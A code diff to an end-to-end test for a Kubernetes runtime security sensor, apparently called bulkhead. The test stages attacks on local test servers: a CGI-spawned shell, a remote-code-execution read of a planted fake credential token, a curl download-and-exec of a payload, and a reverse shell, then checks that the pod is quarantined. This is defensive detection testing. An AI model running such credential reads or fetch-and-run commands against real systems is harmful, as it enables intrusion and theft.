@@ -31,6 +31,7 @@ import (
 	"github.com/bulkhead-dev/bulkhead/internal/behavior/kubestore"
 	"github.com/bulkhead-dev/bulkhead/test/framework"
 	"github.com/bulkhead-dev/bulkhead/test/framework/localcluster"
+	"github.com/bulkhead-dev/bulkhead/test/framework/nodekit"
 )
 
 // sensorLearning is the sensors' --learning-window.
@@ -49,17 +50,13 @@ const sharedModelAfter = sensorLearning + 3*time.Minute + 10*time.Second
 // contained pod in the kernel (issue 17: real packets) while its sibling's
 // traffic flows.
 func TestSensorEndToEnd(t *testing.T) {
-	// Its own target (make test-e2e-sensor, about 5 minutes): a pod is at
-	// times contained again after release for a connection the sensor saw
-	// to a port no test process listens on (see the closing note of issue
-	// 16); until that is explained it does not gate CI.
+	// Its own target, about 5 minutes: make test-e2e-sensor (CI runs it as
+	// ci-e2e-sensor), so make test-e2e does not run it twice.
 	if os.Getenv("BULKHEAD_E2E_SENSOR") == "" {
 		t.Skip("the real-kernel sensor scenario runs with make test-e2e-sensor (BULKHEAD_E2E_SENSOR=1)")
 	}
-	requireKernel(t)
-	s := newScenario(t)
 	k := newKernelKit(t)
-	sa := sensorIdentity(t)
+	s := newScenario(t)
 
 	// The cluster DNS that allowDNS keeps open: kwok has none, so a kube-dns
 	// EndpointSlice names a UDP listener of this test.
@@ -109,36 +106,36 @@ func TestSensorEndToEnd(t *testing.T) {
 	}
 	type served struct {
 		pod  corev1.Pod
-		c    *container
+		c    *nodekit.Container
 		base string
 	}
 	servers := make([]served, 0, len(shop))
-	crossFile := filepath.Join(k.dir, "shop-b-connect")
+	crossFile := filepath.Join(k.Dir, "shop-b-connect")
 	for i, p := range shop {
 		c := k.containerFor(p)
 		port := freePort(t)
-		c.start("shopserver", filepath.Join(k.bin, "shopserver"), "-addr", fmt.Sprintf("127.0.0.1:%d", port), "-root", www)
+		k.start(c, "shopserver", filepath.Join(k.bin, "shopserver"), "-addr", fmt.Sprintf("127.0.0.1:%d", port), "-root", www)
 		conn, file := connA, ""
 		if i == 1 {
 			conn, file = connB, crossFile
 		}
-		c.start("netprobe", netprobe, probeArgs(p.Name, conn.addr, file)...)
+		k.start(c, "netprobe", netprobe, probeArgs(p.Name, conn.addr, file)...)
 		servers = append(servers, served{p, c, fmt.Sprintf("http://127.0.0.1:%d", port)})
 	}
 	blogC := k.containerFor(blog)
 	blogPort := freePort(t)
-	blogC.start("python3-http.server", "python3", "-m", "http.server", "--cgi", "--bind", "127.0.0.1", "--directory", blogDir, fmt.Sprint(blogPort))
+	k.start(blogC, "python3-http.server", "python3", "-m", "http.server", "--cgi", "--bind", "127.0.0.1", "--directory", blogDir, fmt.Sprint(blogPort))
 	wikiC := k.containerFor(wiki)
 	wikiPort := freePort(t)
-	wikiC.start("perl-wiki.pl", "perl", filepath.Join(framework.RepoRoot(), "test", "e2e", "testdata", "wiki", "wiki.pl"), fmt.Sprint(wikiPort), www)
-	wikiC.start("netprobe", netprobe, probeArgs(wiki.Name, connWiki.addr, "")...)
+	k.start(wikiC, "perl-wiki.pl", "perl", filepath.Join(framework.RepoRoot(), "test", "e2e", "testdata", "wiki", "wiki.pl"), fmt.Sprint(wikiPort), www)
+	k.start(wikiC, "netprobe", netprobe, probeArgs(wiki.Name, connWiki.addr, "")...)
 	blogBase, wikiBase := fmt.Sprintf("http://127.0.0.1:%d", blogPort), fmt.Sprintf("http://127.0.0.1:%d", wikiPort)
 	for _, b := range []string{servers[0].base, servers[1].base, blogBase, wikiBase} {
 		waitHTTP(s, b+"/index.html")
 	}
 	logf("servers up: shop (Go net/http) in %s and %s, blog (python3 -m http.server --cgi) in %s, wiki (perl IO::Socket) in %s", shop[0].Name, shop[1].Name, blog.Name, wiki.Name)
 
-	loads := map[string]*load{}
+	loads := map[string]*nodekit.Load{}
 	for _, sv := range servers {
 		loads[sv.pod.Name] = startLoad(t, sv.base, "/index.html", "/style.css", "/img/logo.svg", "/index.html")
 	}
@@ -148,7 +145,7 @@ func TestSensorEndToEnd(t *testing.T) {
 	started := time.Now()
 	sensors := map[string]*sensorProc{}
 	for _, n := range []string{nodeA, nodeB} {
-		sensors[n] = k.startSensor(t, sa, n, sensorLearning.String())
+		sensors[n] = k.startSensor(t, n, sensorLearning)
 	}
 	for _, n := range []string{nodeA, nodeB} {
 		sensors[n].ready(s, 60*time.Second)
@@ -169,7 +166,7 @@ func TestSensorEndToEnd(t *testing.T) {
 		return nil
 	})
 	for name, ld := range loads {
-		ok, fail, last := ld.stats()
+		ok, fail, last := ld.Stats()
 		if ok == 0 {
 			s.t.Fatalf("load on %s: no page served (%d failures, last %v)", name, fail, last)
 		}
@@ -177,25 +174,25 @@ func TestSensorEndToEnd(t *testing.T) {
 	}
 
 	// (a) A shell spawned by the blog's python3 web server (an injected CGI script).
-	s.attack(blog.Name, "shell spawned by python3 (CGI)", []string{"sh"}, func() {
+	s.attack(k, blog.Name, "shell spawned by python3 (CGI)", []string{"sh"}, func() {
 		attempt(blogBase + "/cgi-bin/sh.cgi")
 	})
 
 	// (d) Reading a credential file, through the shop's remote-code-execution hole.
-	secret := filepath.Join(k.dir, "serviceaccount", "token")
+	secret := filepath.Join(k.Dir, "serviceaccount", "token")
 	_ = os.MkdirAll(filepath.Dir(secret), 0o755)
 	_ = os.WriteFile(secret, []byte("e2e-not-a-real-token"), 0o644)
-	s.attack(shop[0].Name, "credential file read", []string{"cat"}, func() {
+	s.attack(k, shop[0].Name, "credential file read", []string{"cat"}, func() {
 		rce(servers[0].base, "cat "+secret, false)
 	})
 
 	// (b) Download and exec, through the same hole of the same pod after
 	// its release: a released pod is watched as before.
 	payloads := k.payloadServer(t)
-	dl := "/tmp/bh-e2e-payload-" + randHex(4)
+	dl := "/tmp/bh-e2e-payload-" + nodekit.RandHex(4)
 	t.Cleanup(func() { _ = os.Remove(dl) })
 	_, payloadPort, _ := net.SplitHostPort(strings.TrimPrefix(payloads, "http://"))
-	s.attack(shop[0].Name, "download and exec", []string{"curl", "bh-e2e-payload", ":TCP/" + payloadPort}, func() {
+	s.attack(k, shop[0].Name, "download and exec", []string{"curl", "bh-e2e-payload", ":TCP/" + payloadPort}, func() {
 		rce(servers[0].base, fmt.Sprintf("curl -fsS -o %s %s/payload && chmod +x %s && %s", dl, payloads, dl, dl), false)
 	})
 
@@ -309,7 +306,7 @@ func (s *scenario) clusterDNS(addr string) {
 	var p int32
 	_, _ = fmt.Sscan(port, &p)
 	es := &discoveryv1.EndpointSlice{
-		ObjectMeta: metav1.ObjectMeta{Name: "kube-dns-e2e-" + randHex(3), Namespace: "kube-system",
+		ObjectMeta: metav1.ObjectMeta{Name: "kube-dns-e2e-" + nodekit.RandHex(3), Namespace: "kube-system",
 			Labels: map[string]string{discoveryv1.LabelServiceName: "kube-dns"}},
 		AddressType: discoveryv1.AddressTypeIPv4,
 		Endpoints:   []discoveryv1.Endpoint{{Addresses: []string{host}, Conditions: discoveryv1.EndpointConditions{Ready: ptr.To(true)}}},
@@ -325,11 +322,12 @@ func (s *scenario) clusterDNS(addr string) {
 // attack runs act against pod and requires the pod contained with one of
 // markers (naming the behaviour) in the Quarantine's reason or evidence;
 // then it releases the Quarantine and waits until the pod is free.
-func (s *scenario) attack(pod, what string, markers []string, act func()) {
+func (s *scenario) attack(k *kernelKit, pod, what string, markers []string, act func()) {
 	s.t.Helper()
 	t0 := time.Now()
 	logf("attack on %s: %s", pod, what)
 	act()
+	done := time.Now()
 	q, err := s.contained(pod)
 	if err != nil {
 		// The scenario goes on: the other attacks and the kernel checks
@@ -339,6 +337,20 @@ func (s *scenario) attack(pod, what string, markers []string, act func()) {
 	}
 	logf("  %s contained %s after the attack: %s", pod, time.Since(t0).Round(10*time.Millisecond), reasonText(q))
 	s.requireNamed(q, what, markers)
+	// The attack's processes have ended, but under load its last execs can
+	// reach the manager in a later batch than the one that contained the
+	// pod: released before them, the pod would be contained again by the
+	// same attack. Release once the sensor has scored the pod past the
+	// attack's end (its next sample, within 10s; a score that barely moved
+	// is not sent, so after 20s release anyway).
+	if err := poll(env.ctx, 20*time.Second, "the sensor scored "+pod+" past the attack", func(context.Context) error {
+		if !k.recorder(s.t).scoredSince(pod, done) {
+			return errors.New("no score for later events yet")
+		}
+		return nil
+	}); err != nil {
+		logf("  releasing anyway: %v", err)
+	}
 	s.release(q)
 }
 
@@ -532,7 +544,7 @@ wait:
 			_ = shell.SetWriteDeadline(time.Now().Add(time.Second))
 			_, _ = fmt.Fprintf(shell, "\n")
 		case <-deadline:
-			s.t.Fatalf("the reverse shell's established connection still open 30s after the Quarantine was Contained\n%s", tail(sensor.logPath, 4096))
+			s.t.Fatalf("the reverse shell's established connection still open 30s after the Quarantine was Contained\n%s", sensor.Log(4096))
 		}
 	}
 	// The pod's held connection, new connections and UDP are dropped; DNS
@@ -570,15 +582,8 @@ wait:
 		}
 		return nil
 	})
-	s.eventually(15*time.Second, "no BPF pins left under "+k.pinDir, func(ctx context.Context) error {
-		var left []string
-		_ = filepath.WalkDir(k.pinDir, func(p string, d os.DirEntry, err error) error {
-			if err == nil && !d.IsDir() && !k.kernelPins[p] {
-				left = append(left, p)
-			}
-			return nil
-		})
-		if len(left) > 0 {
+	s.eventually(15*time.Second, "no BPF pins left under "+k.PinDir, func(ctx context.Context) error {
+		if left := k.Pins(); len(left) > 0 {
 			return fmt.Errorf("pinned: %v", left)
 		}
 		return nil
@@ -617,7 +622,7 @@ func (s *scenario) requireEnforcementStatus(q *securityv1alpha1.Quarantine, pod 
 
 // site is the static content every server serves.
 func (k *kernelKit) site(t *testing.T, name string) string {
-	dir := filepath.Join(k.dir, name)
+	dir := filepath.Join(k.Dir, name)
 	for name, body := range map[string]string{
 		"index.html":   "<html><head><link rel=stylesheet href=style.css></head><body>shop</body></html>\n",
 		"style.css":    "body { font-family: sans-serif }\n",
